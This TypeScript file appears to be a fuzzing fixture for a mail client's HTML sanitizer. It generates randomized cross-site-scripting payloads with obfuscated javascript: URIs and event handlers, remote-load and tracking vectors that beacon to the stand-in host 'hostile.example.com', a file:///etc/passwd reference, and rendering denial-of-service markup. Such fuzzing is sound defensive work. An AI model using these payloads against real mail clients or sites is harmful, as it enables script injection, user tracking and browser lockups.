import type { Random } from '../../fixtures/mail/random.ts';

/** One thing that a letter tries, written as the chance has it. */
export type Trick = (random: Random) => string;

/** A host that must never hear of anything; the name is nobody's (RFC 2606). */
const host = 'hostile.example.com';
/** What a script does that runs: it is seen in the window's title, in a dialogue, or as a request. */
const takes: readonly [string, ...string[]] = [
  "parent.document.title='taken'",
  "top.document.title='taken'",
  "top.location='https://hostile.example.com/top'",
  "fetch('https://hostile.example.com/fetch')",
  'alert(1)',
  "new Image().src='https://hostile.example.com/new'",
  "open('https://hostile.example.com/open')",
  "navigator.sendBeacon('https://hostile.example.com/beacon')",
  "new WebSocket('wss://hostile.example.com/')",
];

function address(random: Random): string {
  const path = `/${random.integer(0, 1_000_000)}`;
  return random.pick([
    ...([`https://${host}${path}`, `https://${host}${path}`, `http://${host}${path}`] as const),
    ...[`//${host}${path}`, `\\\\${host}${path}`, `/\\${host}${path}`, `https:${host}${path}`],
    ...[`ht\ntps://${host}${path}`, `\u0001https://${host}${path}`, `HTTPS://${host}${path}`],
    ...[`https://user:pass@${host}${path}`, `ftp://${host}${path}`, `ws://${host}${path}`],
    ...[`&#104;ttps://${host}${path}`, `https&colon;//${host}${path}`, `file:///etc/passwd`],
    ...[`https://${host}:8443${path}`, `/call/app.info`, `../../events`, `blob:https://${host}/1`],
    `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='https://${host}/d'/></svg>`,
  ]);
}

function script(random: Random): string {
  const take = random.pick(takes);
  return random.pick([
    `javascript:${take}`,
    ` java\tscript:${take}`,
    `JaVaScRiPt:${take}`,
    `&#106;avascript&colon;${take}`,
    `\u0001javascript:${take}`,
    `data:text/html,<script>${take}</script>`,
    `vbscript:${take}`,
    `javascript://%0a${take}`,
  ]);
}

const elements = ['img', 'p', 'div', 'a', 'svg', 'body', 'details', 'input', 'video', 'marquee'];
const moreElements = [
  'object',
  'iframe',
  'select',
  'style',
  'math',
  'button',
  'dialog',
  'x',
  'font',
];
const events = [
  ...['load', 'error', 'toggle', 'focus', 'begin', 'start', 'animationstart', 'transitionend'],
  ...[
    'pointerenter',
    'scroll',
    'beforeinput',
    'pageshow',
    'loadstart',
    'click',
    'contentvisibilityautostatechange',
  ],
];

export const runningTricks: readonly Trick[] = [
  random => `<script>${random.pick(takes)}</script>`,
  random => `<script src="${address(random)}"></script>`,
  random => `<script type="module">import "${address(random)}"</script>`,
  random => `<script type="importmap">{"imports":{"a":"${address(random)}"}}</script>`,
  random => {
    const element = random.pick(['img', ...elements, ...moreElements]);
    const event = random.pick(['load', ...events]);
    return `<${element} src="x" open autofocus tabindex="1" on${event}="${random.pick(takes)}">1`;
  },
  random =>
    `<svg on${random.pick(['load', ...events])}="${random.pick(takes)}"><animate onbegin="${random.pick(takes)}" attributeName="x" dur="1s"/></svg>`,
  random => `<svg><script>${random.pick(takes)}</script></svg>`,
  random =>
    `<svg><a><animate attributeName="href" values="${script(random)}"/><text y="20">1</text></a></svg>`,
  random => `<svg><set attributeName="onmouseover" to="${random.pick(takes)}"/></svg>`,
  random =>
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${random.pick(takes)}</script></svg>#x"/></svg>`,
  random =>
    `<iframe src="${script(random)}"></iframe><frameset><frame src="${script(random)}"></frameset>`,
  random => `<iframe srcdoc="&lt;script&gt;${random.pick(takes)}&lt;/script&gt;"></iframe>`,
  random => `<object data="${script(random)}"></object><embed src="${script(random)}">`,
  random =>
    `<object type="text/html" data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>`.concat(
      random.pick(['', '1']),
    ),
  random =>
    `<form action="${script(random)}"><input autofocus onfocus="this.form.submit()"><button formaction="${script(random)}">1</button></form>`,
  random => `<meta http-equiv="refresh" content="0;url=${script(random)}">`,
  random =>
    `<meta http-equiv="Content-Security-Policy" content="script-src *"><script>${random.pick(takes)}</script>`,
  random => `<base href="${script(random)}/"><a href="#x" target="_top">1</a>`,
  random =>
    `<math><maction actiontype="statusline" xlink:href="${script(random)}">1</maction></math>`,
  random =>
    `<link rel="import" href="${script(random)}"><link rel="stylesheet" href="${script(random)}">`,
  random =>
    `<style>p{background:url("${script(random)}");behavior:url(#default#time2);-moz-binding:url(${address(random)})}</style>`,
  random =>
    `<p style="width:expression(${random.pick(takes)});background:url(${script(random)})">1</p>`,
  random => `<table background="${script(random)}"><td background="${script(random)}">1</table>`,
  random =>
    `<video><source onerror="${random.pick(takes)}"></video><audio src=x onerror="${random.pick(takes)}">`,
  random => `<marquee loop=1 width=0 onfinish="${random.pick(takes)}">1</marquee>`,
  random =>
    `<img src="${script(random)}"><input type="image" src="${script(random)}"><isindex src="${script(random)}">`,
  random =>
    `<a href="${script(random)}" id="location"><a id="location" name="href" href="${script(random)}">1</a>`,
  random => `<template shadowrootmode="open"><script>${random.pick(takes)}</script></template>`,
  random =>
    `<div popover id=p onbeforetoggle="${random.pick(takes)}">1</div><button popovertarget=p autofocus>1</button>`,
  random =>
    `<x contenteditable onblur="${random.pick(takes)}" onfocus="${random.pick(takes)}" autofocus tabindex=0>1</x>`,
];

/** Declarations that load something, with the function that names it. */
function loading(random: Random): string {
  const url = cssUrl(random);
  return random.pick([
    `background:${url}`,
    ...['background-image', 'list-style-image', 'border-image-source', 'mask-image', 'content'].map(
      name => `${name}:${url}`,
    ),
    ...[`cursor:${url},auto`, `filter:${url}`, `clip-path:${url}`, `shape-outside:${url}`],
    ...[`offset-path:${url}`, `--x:${url};background:var(--x)`, `mask:${url} 1`, `fill:${url}`],
    ...[
      `border-image:${url} 1`,
      `list-style:inside ${url}`,
      `background:linear-gradient(red,red),${url}`,
    ],
  ]);
}

function cssUrl(random: Random): string {
  const to = address(random);
  return random.pick([
    `url("${to}")`,
    ...[
      `url(${to})`,
      `u\\72l("${to}")`,
      `\\75 rl(${to})`,
      `u\\72 l(${to})`,
      `URL('${to}')`,
      `url( "${to}" )`,
    ],
    ...[
      `image-set("${to}" 1x)`,
      `-webkit-image-set(url(${to}) 1x)`,
      `cross-fade(url(${to}),red,50%)`,
    ],
    ...[
      `image("${to}")`,
      `src("${to}")`,
      `ur/**/l(${to})`,
      `url(/**/"${to}")`,
      `-webkit-cross-fade(url(${to}),url(${to}),50%)`,
    ],
  ]);
}

export const loadingTricks: readonly Trick[] = [
  random => `<img src="${address(random)}">`,
  random => `<img srcset="${address(random)} 1x, ${address(random)} 2x" sizes="100vw">`,
  random =>
    `<img lowsrc="${address(random)}" dynsrc="${address(random)}" longdesc="${address(random)}">`,
  random => `<picture><source srcset="${address(random)}" media="all"><img src="data:,"></picture>`,
  random => `<image src="${address(random)}" href="${address(random)}">`,
  random =>
    `<input type="image" src="${address(random)}"><button formaction="${address(random)}">1</button>`,
  random =>
    `<video src="${address(random)}" poster="${address(random)}" autoplay><track src="${address(random)}" default></video>`,
  random =>
    `<audio src="${address(random)}" autoplay preload="auto"></audio><bgsound src="${address(random)}">`,
  random =>
    `<object data="${address(random)}" codebase="${address(random)}"><param name="src" value="${address(random)}"></object>`,
  random =>
    `<embed src="${address(random)}"><applet code="${address(random)}" archive="${address(random)}"></applet>`,
  random =>
    `<iframe src="${address(random)}" loading="eager"></iframe><frame src="${address(random)}">`,
  random =>
    `<fencedframe src="${address(random)}"></fencedframe><portal src="${address(random)}"></portal>`,
  random => {
    const rel = random.pick([
      'stylesheet',
      'icon',
      'preload',
      'prefetch',
      'preconnect',
      'dns-prefetch',
      'manifest',
      'modulepreload',
      'prerender',
      'alternate stylesheet',
      'expect',
    ]);
    return `<link rel="${rel}" href="${address(random)}" as="image" imagesrcset="${address(random)} 1x">`;
  },
  random =>
    `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${address(random)}"]}]}</script>`,
  random => `<meta http-equiv="refresh" content="0; url=${address(random)}">`,
  random =>
    `<meta http-equiv="Link" content="<${address(random)}>; rel=preload; as=image"><meta property="og:image" content="${address(random)}">`,
  random =>
    `<base href="${address(random)}"><img src="relative.png"><a href="relative" ping="${address(random)}">1</a>`,
  random =>
    `<body background="${address(random)}"><table background="${address(random)}"><tr background="${address(random)}"><td background="${address(random)}">1</table>`,
  random =>
    `<style>${random.pick(['@import', '@\\69mport', '@IMPORT/**/'])} ${random.pick([`url(${address(random)})`, `"${address(random)}"`])};</style>`,
  random =>
    `<style>@font-face{font-family:f;src:url("${address(random)}"),${cssUrl(random)}}p{font-family:f}</style>`,
  random => `<style>p,body,html{${loading(random)}}</style>`,
  random =>
    `<style>p::before,p::after,li::marker,::selection,p::first-line{content:"1";${loading(random)}}</style>`,
  random =>
    `<style>@media all{@supports (color:red){p{${loading(random)}}}}@layer a{p{${loading(random)}}}@container (width>0){p{${loading(random)}}}</style>`,
  random =>
    `<style>body{p{${loading(random)}}&{${loading(random)}}}@scope(body){p{${loading(random)}}}</style>`,
  random =>
    `<style>@keyframes k{from{${loading(random)}}to{${loading(random)}}}p{animation:k 1s infinite}@property --x{syntax:"<url>";inherits:true;initial-value:${cssUrl(random)}}</style>`,
  random =>
    `<style>@namespace url(${address(random)});@document url(${address(random)}){p{color:red}}@page{${loading(random)}}@counter-style c{symbols:${cssUrl(random)}}</style>`,
  random =>
    `<style>p{color:red;}}<!-- --> p{${loading(random)}} /* */ @media all{p{${loading(random)}</style>`,
  random => `<p style="${loading(random).replaceAll('"', "'")}">1</p>`,
  random =>
    `<p style='${loading(random).replaceAll("'", '"')};x:"'>1</p><p style="a:'\\";${loading(random).replaceAll('"', "'")}">1</p>`,
  random =>
    `<svg><image href="${address(random)}"/><use href="${address(random)}#a"/><filter id=f><feImage href="${address(random)}"/></filter></svg>`,
  random =>
    `<svg><rect fill="url(${address(random)}#a)" mask="url(${address(random)})" filter="url(${address(random)})"/><style>@import "${address(random)}";</style></svg>`,
  random =>
    `<svg><foreignObject><img src="${address(random)}"></foreignObject><animate attributeName="href" to="${address(random)}"/></svg>`,
  random =>
    `<math href="${address(random)}"><mglyph src="${address(random)}"/></math><q cite="${address(random)}">1</q>`,
  random =>
    `<form action="${address(random)}" id="f"><input autofocus name="a"></form><input form="f" type="image" src="${address(random)}">`,
  random =>
    `<html manifest="${address(random)}"><head profile="${address(random)}"><frameset><frame src="${address(random)}">`,
  random =>
    `<menu><command icon="${address(random)}"></menu><img usemap="#m" src="cid:${address(random)}"><map name="m"><area href="${address(random)}" ping="${address(random)}"></map>`,
  random =>
    `<img src="data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg"><image href="https://${host}/s${random.integer(0, 9)}"/></svg>`).toString('base64')}">`,
  random =>
    `<div style="background:url(cid:x@y)">1</div><img src="cid:../../call/app.info"><img src="cid:${address(random)}">`,
];

function many(
  random: Random,
  least: number,
  greatest: number,
  piece: (index: number) => string,
): string {
  return Array.from({ length: random.integer(least, greatest) }, (_, index) => piece(index)).join(
    '',
  );
}

export const heavyTricks: readonly Trick[] = [
  random => `<p>a${'\u0301\u0316\u035c\u0489'.repeat(random.integer(5_000, 30_000))}</p>`,
  random => `<p>${many(random, 1_000, 10_000, () => 'Z\u0351\u0343\u0302\u0308')}</p>`,
  random =>
    `<div style="columns:${random.integer(1_000, 1_000_000)};column-width:1px">${'word '.repeat(20_000)}</div>`,
  random =>
    `<style>p,div{column-count:${random.integer(100, 100_000)};column-gap:0;column-fill:balance}</style><div>${'<p>w '.repeat(5_000)}</div>`,
  random =>
    `<style>${many(random, 5_000, 20_000, at => `.c${at} *>p:hover~b{color:#${at % 10}}`)}</style>`,
  random =>
    `<style>${many(random, 500, 3_000, at => `body * * * * * * p[class*="${at}"]{color:red}`)}</style>${'<div><p class=a>'.repeat(500)}`,
  random =>
    `<style>:has(:has(p)) :not(:is(:where(* * *))):nth-child(${random.integer(1, 9)}n){color:red}</style>${'<p><b>1</b></p>'.repeat(5_000)}`,
  random =>
    `<style>@keyframes k{to{transform:rotate(9turn);filter:blur(99px)}}b{animation:k ${random.integer(1, 9)}ms infinite;display:inline-block}</style>${'<b>1</b>'.repeat(5_000)}`,
  random =>
    `<style>b{transition:all ${random.integer(1, 9)}s;will-change:transform;transform:rotate3d(1,1,1,45deg)}</style>${'<b>1</b>'.repeat(5_000)}`,
  random =>
    `<style>p{counter-increment:a b c ${random.integer(1, 99)}}p::before{content:counters(a,".") counters(b,".")}div{counter-reset:a b}</style>${'<div><p>1'.repeat(5_000)}`,
  random =>
    `<ol start="${random.integer(1, 2_000_000_000)}" style="list-style:upper-roman">${'<li>1'.repeat(10_000)}</ol>`,
  random => many(random, 1_000, 20_000, () => '<div>'),
  random =>
    many(random, 1_000, 10_000, () =>
      random.pick(['<b><i>', '<a><font>', '<u><p>', '<table><td>']),
    ),
  random => `${'<b><i><u>'.repeat(random.integer(500, 2_000))}${'</b><p>'.repeat(1_000)}`,
  random =>
    `<table>${`<tr>${`<td colspan=${random.integer(500, 65_534)} rowspan=65534>1`.repeat(20)}`.repeat(100)}</table>`,
  random => `${'<table><tr><td>'.repeat(random.integer(50, 500))}1`,
  random =>
    `<div style="display:${random.pick(['flex', 'grid', 'inline-flex', 'ruby'])}">`.repeat(
      random.integer(100, 2_000),
    ),
  random =>
    `<div style="display:grid;grid-template-columns:repeat(${random.integer(1_000, 100_000)},1fr);grid-template-rows:repeat(10000,1px)">${'<p>1</p>'.repeat(1_000)}</div>`,
  random =>
    `<p style="filter:blur(${random.integer(100, 9_999)}px);backdrop-filter:blur(999px);mix-blend-mode:difference">1</p>`.repeat(
      200,
    ),
  random =>
    `<p style="box-shadow:${Array.from({ length: random.integer(100, 2_000) }, (_, at) => `${at}px ${at}px 99px red`).join(',')};text-shadow:0 0 9999px">1</p>`,
  random =>
    `<p style="font-size:${random.pick(['9999px', '1e9px', '999999em', '100000000%'])};letter-spacing:99999px;width:1e9px;height:999999999px">1</p>`,
  random =>
    `<img width="${random.integer(10_000, 99_999_999)}" height="99999999" hspace=99999 src="data:image/png;base64,iVBORw0KGgo=">`,
  random => `<p>${'\u202e\u2066\u2067\u202a\u202b'.repeat(random.integer(1_000, 20_000))}1</p>`,
  random =>
    `<p>${'\u{1f468}\u200d'.repeat(random.integer(1_000, 10_000))}</p><p>${'\ufdfa'.repeat(5_000)}</p>`,
  random =>
    `<p style="hyphens:auto;white-space:pre;word-break:break-all">${'win'.repeat(random.integer(10_000, 100_000))}</p>`,
  random =>
    `<select>${'<option>1'.repeat(random.integer(1_000, 10_000))}</select><datalist>${'<option>'.repeat(1_000)}</datalist>`,
  random =>
    `<marquee scrollamount=${random.integer(1, 9_999)} scrolldelay=1 truespeed>1</marquee><blink>1</blink>`.repeat(
      500,
    ),
  random => `<details open><summary>1</summary>`.repeat(random.integer(100, 3_000)),
  random => `<ruby>1<rt>`.repeat(random.integer(100, 3_000)),
  random =>
    `<p style="position:fixed;inset:0;z-index:${random.integer(1, 2_147_483_647)};background:red;width:100vw;height:100vh">`.repeat(
      500,
    ),
  random => `<svg>${'<g filter="url(#f)"><use href="#g"/>'.repeat(random.integer(10, 500))}</svg>`,
  random =>
    `<style>p{background:${Array.from({ length: random.integer(50, 500) }, () => 'linear-gradient(red,blue)').join(',')}}</style>${'<p>1'.repeat(500)}`,
  random => `<p style="${many(random, 1_000, 10_000, at => `margin:${at}px;`)}">1</p>`,
  random => `<p ${many(random, 1_000, 10_000, at => `a${at}=1 `)}>1</p>`,
  random => `<p>${'&nbsp;&#x41;&notit;&amp'.repeat(random.integer(1_000, 10_000))}</p>`,
  random =>
    `<style>${'@media all{'.repeat(random.integer(50, 1_000))}p{color:red}</style><style>${'a{'.repeat(500)}${'('.repeat(5_000)}</style>`,
  random =>
    `<style>p{--a:1;${many(random, 20, 40, at => `--a${at + 1}:var(--a${at})var(--a${at});`)}--a0:x;color:var(--a20)}</style><p style="width:${'calc('.repeat(300)}1px${')'.repeat(300)}">1</p>`,
  random =>
    `<hr style="writing-mode:vertical-rl"><div style="writing-mode:${random.pick(['vertical-rl', 'sideways-lr'])};float:left">`.repeat(
      random.integer(100, 1_000),
    ),
  random =>
    `${'<p style="float:left;width:1%;height:1px;clear:left">'.repeat(random.integer(500, 5_000))}`,
  random =>
    `<textarea rows=${random.integer(1_000, 999_999)} cols=999999>1</textarea><progress><meter>`.repeat(
      100,
    ),
];
